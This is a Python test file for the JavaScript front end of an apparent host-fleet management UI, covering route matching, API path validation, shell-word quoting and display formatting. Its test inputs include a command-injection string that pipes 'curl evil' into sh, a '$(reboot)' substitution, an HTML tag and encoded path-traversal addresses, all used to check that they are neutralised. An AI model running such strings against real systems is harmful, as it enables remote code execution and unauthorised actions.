"""core/routes.js and core/format.js: addresses, numbers, times."""

import shlex
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from conftest import ModulePage

PATHS = {
    "/": ("gw-fleet-overview", {}),
    "/rollouts/new": ("gw-rollout-new", {}),
    "/rollouts/0198": ("gw-rollout", {"id": "0198"}),
    "/hosts/plant/h1": ("gw-host-overview", {"site": "plant", "host": "h1"}),
    "/hosts/plant/h1/": ("gw-host-overview", {"site": "plant", "host": "h1"}),
    "/hosts/plant/h1/cpu": ("gw-host-cpu", {"site": "plant", "host": "h1"}),
    "/hosts/plant/h1/areas/a%2Fb": ("gw-host-area", {"site": "plant", "host": "h1", "area": "a/b"}),
    "/hosts/plant/h1/guests/plc.main/console": ("gw-guest-console", {"site": "plant", "host": "h1", "guest": "plc.main"}),
    "/help/controller/api": ("gw-help", {"page": "controller/api"}),
    "/help": ("gw-help", {}),
    "/alarms/rules": ("gw-alarm-rules", {}),
    "/hosts/plant": None,
    "/nothing": None,
    "/hosts/plant/h1/nothing": None,
    "/hosts/plant/%E0%A4%A/cpu": None,
    "/hosts/plant/h1%2Fapprove%3F": None,
    "/hosts/plant/..%2F..%2Fjobs%2F0198%2Fcancel%3F": None,
    "/hosts/plant%2Fh1/h2": None,
    "/hosts/Plant/h1": None,
    "/jobs/0198%2Fcancel%3F": None,
    "/rollouts/..": None,
    "/hosts/plant/h1/guests/%E0%A4%A": ("gw-guest-overview", {"site": "plant", "host": "h1", "guest": "%E0%A4%A"}),
}  # fmt: skip


def test_which_page_a_path_is(module_page: "ModulePage") -> None:
    function = (
        "(module, path) => { const found = module.match(path); return found && [found.route.tag, found.params]; }"
    )
    found = module_page.table("core/routes.js", function, list(PATHS))
    expected = [None if one is None else list(one) for one in PATHS.values()]
    assert found == expected


def test_a_name_leads_to_no_other_place_of_the_api(module_page: "ModulePage") -> None:
    """Whatever names there are in addresses that somebody was sent."""
    paths = [
        "/hosts/d/h1/approve?",
        "/users/../jobs",
        "/users/%2e%2E/jobs",
        "/users/.",
        "/projects/a#b",
        "/projects/a\\b",
    ]
    function = """async (module, path) => {
      const asked = [];
      const api = new module.Api(async (address) => { asked.push(address); return new Response("{}"); });
      await api.send("POST", path, { body: {} }).catch((problem) => asked.push(problem.code));
      return asked;
    }"""
    for path in paths:
        assert module_page.run("core/api.js", function, path) == ["PATH-INVALID"], path
    for path in ("/users/a..b", "/users/%3F"):
        assert module_page.run("core/api.js", function, path) == [f"/api/v1{path}"]


def test_a_name_is_one_word_of_a_line(module_page: "ModulePage") -> None:
    names = ["h1", "a b", "x;curl evil|sh", "it's", "$(reboot)", "<img src=x>", ""]
    lines = module_page.table(
        "core/command_line.js", "(m, name) => m.line`guestwire guest show h1/${name} -o json`", names
    )
    assert [shlex.split(line)[3] for line in lines] == [f"h1/{name}" for name in names]
    words = module_page.table("core/command_line.js", "(m, name) => m.word(name)", names)
    assert [shlex.split(word) for word in words] == [[name] for name in names]


def test_every_page_of_the_menu_and_of_the_tabs_is_there(module_page: "ModulePage") -> None:
    function = """(module) => [
      ...module.MENU.map((item) => item.path), ...Object.values(module.SIDE_BY_SIDE).flat(),
      ...module.HOST_TABS.map((end) => `/hosts/s/h${end}`), ...module.GUEST_TABS.map((end) => `/hosts/s/h/guests/g${end}`),
    ].filter((path) => !module.match(path))"""
    assert module_page.run("core/routes.js", function) == []


def test_every_page_has_its_module_and_its_element(module_page: "ModulePage") -> None:
    function = """async (module) => {
      const missing = [];
      for (const route of module.ROUTES) { await route.load(); if (!customElements.get(route.tag)) missing.push(route.tag); }
      return missing;
    }"""
    assert module_page.run("core/routes.js", function) == []


FORMATS = [
    ("bytes", [0], "0 B"), ("bytes", [1536], "1.5 KiB"), ("bytes", [5 * 1024**3], "5 GiB"), ("bytes", [None], "unknown"),
    ("mib", [240], "240 MiB"), ("mib", [1536], "1.5 GiB"), ("percent", [0.256], "26 %"), ("percent", [None], "unknown"),
    ("duration", [400], "400 ms"), ("duration", [59_400], "59 s"), ("duration", [90_000], "1 min 30 s"),
    ("duration", [7_260_000], "2 h 1 min"), ("duration", [300_000_000], "3 d"), ("ago", [0, 5000], "never"),
    ("ago", [5000, 5000], "now"), ("ago", [1000, 61_000], "1 min ago"), ("ago", [20_000, 5000], "in 15 s"),
    ("counted", [1, "host"], "1 host"), ("counted", [3, "host"], "3 hosts"),
]  # fmt: skip


def test_numbers_and_times_as_people_read_them(module_page: "ModulePage") -> None:
    given = [[name, arguments] for name, arguments, _ in FORMATS]
    found = module_page.table("core/format.js", "(module, [name, given]) => module[name](...given)", given)
    assert found == [text for _, _, text in FORMATS]


def test_the_roles_for_actions_are_the_controllers(module_page: "ModulePage") -> None:
    from guestwire.controller.users.actions import ACTIONS
    from guestwire.controller.users.person import ROLES

    shown = module_page.run("core/actions.js", "(module) => [module.ACTIONS, module.ROLES, [...module.ANYWHERE]]")
    anywhere = [name for name, action in ACTIONS.items() if action.anywhere]
    assert shown == [{name: action.role for name, action in ACTIONS.items()}, list(ROLES), anywhere]
